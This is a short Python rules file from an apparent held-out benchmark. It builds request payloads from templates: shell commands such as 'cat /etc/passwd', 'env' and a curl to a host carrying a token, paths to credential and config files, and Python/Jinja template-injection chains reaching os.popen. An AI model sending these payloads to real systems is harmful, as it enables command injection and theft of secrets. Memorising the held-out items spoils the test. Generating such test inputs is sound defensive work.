"""Rules of interpolation."""

from __future__ import annotations

from benchmarks.requests.heldout.words import COMMON

RULES = COMMON | {
    "cmd": ("id", "whoami", "ls -‹la¦lah¦R›", "cat /etc/‹passwd¦hosts¦issue›", "uname -a", "curl ‹@host›/‹@tok›", "sleep ‹@n›", "nslookup ‹@host›", "ping -c ‹@n› ‹@ip›", "env", "touch /tmp/‹@tok›"),
    "path": ("/etc/passwd", "/etc/hosts", "/proc/self/environ", "../../config/secrets.yml", "/var/www/‹@tok›/.env", "/etc/‹@tok›.conf"),
    "num": tuple("7 8 9 13 49 77 191 1337 4096 31337 98765".split()),
    "sum": "‹@num›‹*¦ * ¦-¦+¦**›‹@num›",
    "reach": (".__class__.__mro__[‹1¦2¦-1›]", ".__init__.__globals__['‹os¦sys¦__builtins__›']", ".__class__.__base__.__subclasses__()[‹@n›]", "['__class__']['__base__']", "|attr('__‹class¦init¦globals¦dict›__')", ".application.__globals__.__builtins__", ".__globals__.os.popen('‹@cmd›').read()", "['\\x5f\\x5f‹class¦init›\\x5f\\x5f']", ".items()|list|attr(\"__len__\")"),
}  # fmt: skip
